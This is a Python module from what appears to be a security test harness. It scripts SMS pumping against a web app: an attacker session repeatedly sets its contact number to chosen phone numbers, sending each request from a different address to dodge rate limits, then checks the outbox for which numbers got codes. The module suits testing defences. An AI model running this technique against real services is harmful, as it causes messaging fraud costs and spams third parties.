"""Numbers: an account that has messages sent to phone numbers of the attacker's choice."""

from __future__ import annotations

import time
from collections.abc import Sequence

from attacks.browser import QUIET
from attacks.client import Answer, write_cookies
from attacks.crowd import address
from attacks.people import MALLORY, Person
from attacks.target import Target

CHANGE = "/account/contact"


def move(contact: str, person: Person) -> dict[str, str]:
    """Return what has ``person``'s messages go to ``contact``, by their password."""
    return {"contact": contact, "password": person.password}


def ask_all(target: Target, numbers: Sequence[str]) -> list[Answer]:
    """Ask for a code to each of ``numbers``, from another address each; return the answers."""
    session = {name: value for name, value in MALLORY.browser(target).items() if name == "session"}
    # Once: a spent channel is 503, and stays so.
    return [
        target.client(address(place)).send("POST", CHANGE, move(number, MALLORY), write_cookies(session))
        for place, number in enumerate(numbers)
    ]


def text_all(target: Target, numbers: Sequence[str]) -> list[str]:
    """Ask for a code to each of ``numbers``; return which got one."""
    ask_all(target, numbers)
    time.sleep(QUIET)
    messages = target.client(MALLORY.address).insist("GET", "/outbox").document["messages"]
    return [message["recipient"] for message in messages if message["recipient"] in numbers]
